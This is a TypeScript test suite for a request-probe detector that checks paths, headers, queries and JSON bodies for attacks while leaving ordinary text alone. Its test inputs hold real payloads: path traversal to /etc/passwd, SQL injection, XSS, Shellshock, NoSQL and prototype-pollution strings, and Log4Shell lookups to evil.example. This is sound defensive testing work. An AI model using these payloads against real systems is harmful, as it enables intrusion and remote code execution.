import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readAttacks, readOrdinary } from '../../testkit/probes.ts'
import { readings } from './decode.ts'
import { probeInBody, probeInQuery } from './fields.ts'
import { probeIn } from './probes.ts'
import { FAMILIES } from './signs.ts'

const attacks = readAttacks()
const ordinary = readOrdinary()

test('the lists are as large as they should be, and name every family', () => {
  assert.ok(attacks.length >= 300)
  assert.ok(ordinary.length >= 500)
  const named = new Set(attacks.map(({ family }) => family))
  assert.deepEqual(
    FAMILIES.filter(family => !named.has(family)),
    ['scanner'], // paths, not payloads: tested below
  )
})

test('no ordinary text is taken for a probe where people write', () => {
  const alarms = ordinary.filter(({ text }) => probeIn(text, 'free_text'))
  assert.deepEqual(alarms, [])
})

test('the same texts together, as a long note of many lines', () => {
  for (let from = 0; from < ordinary.length; from += 25) {
    const note = ordinary
      .slice(from, from + 25)
      .map(({ text }) => text)
      .join('；')
    assert.equal(probeIn(note, 'free_text'), null, note)
  }
})

test('of attacks at query values and identifiers at most one in a hundred is missed, and of no family more than one in ten', () => {
  const missed = attacks.filter(({ text }) => !probeIn(text, 'query')?.certain)
  assert.ok(missed.length <= attacks.length / 100, JSON.stringify(missed))
  for (const family of new Set(attacks.map(attack => attack.family))) {
    const all = attacks.filter(attack => attack.family === family).length
    assert.ok(missed.filter(attack => attack.family === family).length <= all / 10, family)
  }
})

test('attacks at a path are caught however they are written', () => {
  for (const path of [
    '/api/orders/../../../../etc/passwd',
    '/api/orders/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/api/orders/%252e%252e%252fetc%252fpasswd',
    '/static/..%c0%af..%c0%afetc/passwd',
    "/api/orders/1'%20or%20'1'='1",
    '/api/orders/1%20union%20select%201,2--',
    '/api/orders/%3Cscript%3Ealert(1)%3C/script%3E',
    '/api/orders/O1%00.pdf',
    '/api/$%7Bjndi:ldap://x.example/a%7D',
  ])
    assert.equal(probeIn(path, 'path')?.certain, true, path)
})

test('what scanners look for is a doubtful sign only', () => {
  for (const path of ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/', '/cgi-bin/test.cgi'])
    assert.deepEqual([probeIn(path, 'path')?.family, probeIn(path, 'path')?.certain], ['scanner', false], path)
})

test('paths, numbers, ids and headers of every day are no probes', () => {
  for (const path of [
    '/',
    '/favicon.ico',
    '/api/docs/static/index.html',
    '/api/orders/W-2026_11--',
    '/api/fee-items/%E6%B0%B4%E8%B4%B9',
    '/pay/P01KB2',
    '/.well-known/security.txt',
    '/notify/wechat/main',
    '/api/address-blocks/2001:db8:0:1::%2F64',
  ])
    assert.equal(probeIn(path, 'path'), null, path)
  for (const id of ['kJ8-_x--', '--', '2026-11-25T10:00:00+08:00', '128.60', '+8613812345678', 'a.b:c_d-e', '..'])
    assert.equal(probeIn(id, 'identifier'), null, id)
  for (const header of [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 MicroMessenger/8.0.53(0x1800352f) NetType/WIFI Language/zh_CN',
    'Mozilla/4.0',
    'Alipay/10 (https://global.alipay.com)',
    'https://pay.example.cn/bills?search=O%27Brien&note=%E6%B0%B4%E8%B4%B9%20--%20%E8%A1%A5',
    'sid=kJ8-_x--; theme=%7B%22dark%22%3Atrue%7D',
    'W/"1f-abc"',
  ])
    assert.equal(probeIn(header, 'header'), null, header)
})

test('headers carry probes as well', () => {
  for (const header of [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
    '${jndi:ldap://evil.example/a}',
    '() { :; }; /bin/bash -c id',
    "Mozilla' and sleep(5)#",
    "x' union select 1,2,3--",
    '../../../../etc/passwd',
  ])
    assert.equal(probeIn(header, 'header')?.certain, true, header)
})

test('wrapping is taken off: percent signs twice, escapes, entities, comments', () => {
  assert.ok(readings('%2527').includes("'"))
  assert.ok(readings('\\u003cscript\\u003e').includes('<script>'))
  assert.ok(readings('&lt;script&#62;').includes('<script>'))
  assert.ok(readings('un/**/ion').includes('union'))
  assert.ok(readings('/*!50000select*/').some(text => text.trim() === 'select'))
  assert.deepEqual(readings('100% 完成'), ['100% 完成'])
})

test('a field is free where its schema leaves it open, and an identifier where a pattern limits it', () => {
  const schema = {
    type: 'object',
    properties: {
      order_no: { type: 'string', pattern: '^[A-Z0-9]{1,20}$' },
      note: { type: 'string', maxLength: 500 },
      name: { type: 'string', pattern: '\\S' },
      parent: { anyOf: [{ type: 'string', pattern: '^[a-z]+$' }, { type: 'null' }] },
      rows: { type: 'array', items: { type: 'object', properties: { id: { type: 'string', format: 'date' } } } },
      password: { type: 'string' },
    },
  }
  const writing = "select * from 发票抬头；O'Brien -- 请核对"
  assert.equal(probeInBody({ note: writing, name: writing, password: "' or '1'='1" }, schema), null)
  const union = '1 union all select version()'
  assert.equal(probeInBody({ order_no: union }, schema)?.field, 'order_no')
  assert.equal(probeInBody({ parent: union }, schema)?.field, 'parent')
  assert.equal(probeInBody({ rows: [{ id: '2026-11-25' }, { id: union }] }, schema)?.field, 'id')
  assert.equal(probeInBody({ note: "' or '1'='1" }, schema)?.family, 'sql_boolean')
  assert.equal(probeInBody({ order_no: { $gt: '' } }, schema)?.family, 'nosql')
  assert.equal(probeInBody(JSON.parse('{"__proto__":{"admin":true}}'), schema)?.place, 'key')
  const query = { type: 'object', properties: { search: { type: 'string' }, state: { type: 'string', enum: ['a'] } } }
  assert.equal(probeInQuery({ search: writing, state: 'a' }, query), null)
  assert.equal(probeInQuery({ search: 'x', other: "1' or 1=1--" }, query)?.field, 'other')
  assert.equal(probeInQuery({ 'user[$ne]': 'x' }, query)?.family, 'nosql')
})

test('a note of any length is read from both ends', () => {
  const padding = '水费'.repeat(40_000)
  assert.equal(probeIn(`${padding}。`, 'free_text'), null)
  assert.equal(probeIn(`\${jndi:ldap://evil.example/a}${padding}`, 'free_text')?.family, 'log4j')
  assert.equal(probeIn(`${padding}\${jndi:ldap://evil.example/a}`, 'free_text')?.family, 'log4j')
})
